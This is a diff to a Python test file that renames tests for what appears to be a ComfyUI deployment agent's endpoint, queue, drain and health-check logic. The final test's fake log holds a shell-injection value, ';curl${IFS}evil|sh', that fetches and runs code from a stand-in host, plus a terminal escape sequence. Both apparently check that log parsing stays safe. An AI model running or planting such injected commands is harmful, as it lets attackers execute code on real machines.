@@ -137,7 +137,7 @@ def test_the_endpoint_of_a_command_line(argv: list[str], addresses: tuple[str, .
     assert Endpoint.of(argv) == Endpoint(addresses, port, tls)
 
 
-def test_a_release_is_asked_where_it_listens_whatever_the_configuration_says(tmp_path: Path) -> None:
+def test_endpoint_comes_from_the_release(tmp_path: Path) -> None:
     """hosts.toml may already have another port during a rollback, drain or revert."""
     with serving({"/queue": IDLE}) as port:
         released = layout(tmp_path, 1, ["python", "main.py", "--listen", "127.0.0.1", "--port", str(port)])
@@ -146,13 +146,13 @@ def test_a_release_is_asked_where_it_listens_whatever_the_configuration_says(tmp
 
 
 @pytest.mark.parametrize("address", ["127.0.0.1", "::1"])
-def test_of_several_addresses_the_one_that_answers_is_asked(address: str) -> None:
+def test_responding_address_is_used(address: str) -> None:
     with serving({"/queue": IDLE}, address) as port:
         assert api.queue(at(port, "127.0.0.1", "::1")) == ([], [])
         assert api.accepts_connections(at(port, "127.0.0.1", "::1"))
 
 
-def test_a_tls_endpoint_is_asked_by_https(tmp_path: Path) -> None:
+def test_tls_endpoint_uses_https(tmp_path: Path) -> None:
     words = ["openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-subj", "/CN=spark.example", "-days", "2"]
     words += ["-keyout", str(tmp_path / "key.pem"), "-out", str(tmp_path / "cert.pem")]
     subprocess.run(words, check=True, capture_output=True)
@@ -176,7 +176,7 @@ def trickle(connection: socket.socket) -> None:
 
 
 @pytest.mark.parametrize("talk", [lambda _: None, endless_headers, trickle], ids=["silent", "headers", "trickles"])
-def test_all_of_an_answer_has_one_deadline(talk: Callable[[socket.socket], None]) -> None:
+def test_whole_answer_has_one_deadline(talk: Callable[[socket.socket], None]) -> None:
     with listening(talk) as port:
         started = time.monotonic()
         with pytest.raises(TimeoutError):
@@ -200,7 +200,7 @@ def test_all_of_an_answer_has_one_deadline(talk: Callable[[socket.socket], None]
     ],
     ids=["redirect", "html", "nested", "long", "object", "list", "404", "null", "number", "short"],
 )
-def test_what_is_no_queue_is_told_apart(answer: object, monkeypatch: pytest.MonkeyPatch) -> None:
+def test_invalid_queue_is_an_error(answer: object, monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setattr(api.ask, "__defaults__", (None, 5, 2_000_000))
     with serving({"/queue": answer}) as port, pytest.raises(ValueError):
         api.queue(at(port))
@@ -215,7 +215,7 @@ def test_what_is_no_queue_is_told_apart(answer: object, monkeypatch: pytest.Monk
     ],
     ids=["jobs", "objects", "text"],
 )
-def test_of_a_queue_that_is_too_long_the_number_is_asked(queue: bytes) -> None:
+def test_long_queue_is_counted_only(queue: bytes) -> None:
     begun = time.monotonic()
     with serving({"/queue": queue, "/prompt": {"exec_info": {"queue_remaining": 7}}}) as port:
         running, waiting = api.queue(at(port), 20)
@@ -223,7 +223,7 @@ def test_of_a_queue_that_is_too_long_the_number_is_asked(queue: bytes) -> None:
     assert time.monotonic() - begun < 5
 
 
-def test_of_many_jobs_the_first_are_told_and_their_number(tmp_path: Path) -> None:
+def test_many_jobs_are_shortened_to_the_first_and_a_count(tmp_path: Path) -> None:
     many = [[number, "x" * 500, {}, {}] for number in range(5000, 0, -1)]
     answers = {"/queue": {"queue_running": many, "queue_pending": many}, "/history": {}, "/system_stats": STATS}
     with serving(answers) as port:
@@ -239,7 +239,7 @@ def test_of_many_jobs_the_first_are_told_and_their_number(tmp_path: Path) -> Non
     assert len(raised.value.report["what"]) < 1500
 
 
-def test_of_a_history_that_is_too_long_less_is_asked(tmp_path: Path) -> None:
+def test_long_history_is_requested_in_part(tmp_path: Path) -> None:
     asked: list[str] = []
 
     def talk(connection: socket.socket) -> None:
@@ -258,7 +258,7 @@ def test_of_a_history_that_is_too_long_less_is_asked(tmp_path: Path) -> None:
 
 
 @pytest.mark.parametrize("depth", range(900, 1000, 7))
-def test_what_is_nested_as_deeply_as_json_may_be_is_no_answer(tmp_path: Path, depth: int) -> None:
+def test_deeply_nested_json_is_rejected(tmp_path: Path, depth: int) -> None:
     nested = b"[" * depth + b"]" * depth
     answer = (
         b'{"queue_running":[[1,'
@@ -276,14 +276,14 @@ def test_what_is_nested_as_deeply_as_json_may_be_is_no_answer(tmp_path: Path, de
 # --- drain ---------------------------------------------------------------------------------------------------------
 
 
-def test_a_refused_connection_means_that_nothing_runs() -> None:
+def test_refused_connection_means_not_running() -> None:
     with socket.create_server(("127.0.0.1", 0)) as closed:
         port = closed.getsockname()[1]
     health.drain(at(port, "127.0.0.1", "::1"), 0, False, lambda _: None)
 
 
 @pytest.mark.parametrize(("answers", "delay"), [({"/queue": IDLE}, 2), ({"/queue": b"busy"}, 0), ({}, 0)])
-def test_a_comfyui_that_is_slow_or_says_nonsense_may_be_at_work(
+def test_slow_or_invalid_answer_counts_as_busy(
     answers: dict[str, Any], delay: float, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     monkeypatch.setattr(api.queue, "__defaults__", (0.2,))
@@ -293,7 +293,7 @@ def test_a_comfyui_that_is_slow_or_says_nonsense_may_be_at_work(
     assert "its jobs are unknown" in raised.value.report["what"]
 
 
-def test_a_comfyui_that_hangs_is_waited_for_until_it_answers() -> None:
+def test_drain_waits_for_a_hanging_comfyui() -> None:
     answers = iter((b"", json.dumps(BUSY).encode(), json.dumps(IDLE).encode()))
 
     def talk(connection: socket.socket) -> None:
@@ -309,7 +309,7 @@ def test_a_comfyui_that_hangs_is_waited_for_until_it_answers() -> None:
     assert busy == "waiting for jobs: 1 running (a-job), 0 waiting"
 
 
-def test_with_force_comfyui_is_asked_nothing() -> None:
+def test_force_sends_no_request() -> None:
     asked: list[socket.socket] = []
     with listening(asked.append) as port:
         health.drain(at(port), 60, True, lambda _: None)
@@ -336,7 +336,7 @@ def test_jobs_that_nodes_queued_in_their_own_way_are_listed(tmp_path: Path) -> N
 
 
 @pytest.mark.parametrize("answer", [{"error": "unauthorized"}, [], 7, {"x": 1}, b"<html>"])
-def test_another_program_at_the_port_is_named_as_such(tmp_path: Path, answer: object) -> None:
+def test_another_program_on_the_port_is_reported(tmp_path: Path, answer: object) -> None:
     answers = dict.fromkeys(("/queue", "/history", "/system_stats"), answer)
     with serving(answers) as port:
         with pytest.raises(AgentError) as raised:
@@ -358,13 +358,13 @@ class Runs:
         return []
 
 
-def test_the_health_check_says_what_answered_instead_of_comfyui() -> None:
+def test_health_check_reports_a_foreign_answer() -> None:
     with serving({"/system_stats": {"system": 1}}) as port, pytest.raises(AgentError) as raised:
         health.first_answer(at(port), Runs(), 0.1)
     assert "the answer to /system_stats is not in ComfyUI's format" in raised.value.report["cause"]
 
 
-def test_what_comfyui_says_of_itself_is_cut_in_messages() -> None:
+def test_comfyuis_texts_are_shortened_in_messages() -> None:
     release = {"code": "/app", "gate": {"seconds": 1, "version": "0.30.0", "torch": ""}}
     told = {"system": {"comfyui_version": "0.30.0", "pytorch_version": "", "argv": ["x" * 300] * 3000}, "devices": []}
     with (
@@ -375,7 +375,7 @@ def test_what_comfyui_says_of_itself_is_cut_in_messages() -> None:
     assert len(str(raised.value.report)) < 5000
 
 
-def test_nodes_that_cannot_be_imported_are_the_releases_and_found_in_time() -> None:
+def test_failed_nodes_are_found_within_the_time_limit() -> None:
     lines = [f"   0.0 seconds (IMPORT FAILED): /x/n{number}" for number in range(20_000)]
     lines += ["(IMPORT FAILED): /" * 5000, "0.1 seconds (IMPORT FAILED): /x/a;curl${IFS}evil|sh #", "filler"] * 100
     lines += ["Cannot import /x/n7 module for custom nodes: no \x1b[2Jway" + "y" * 5000]
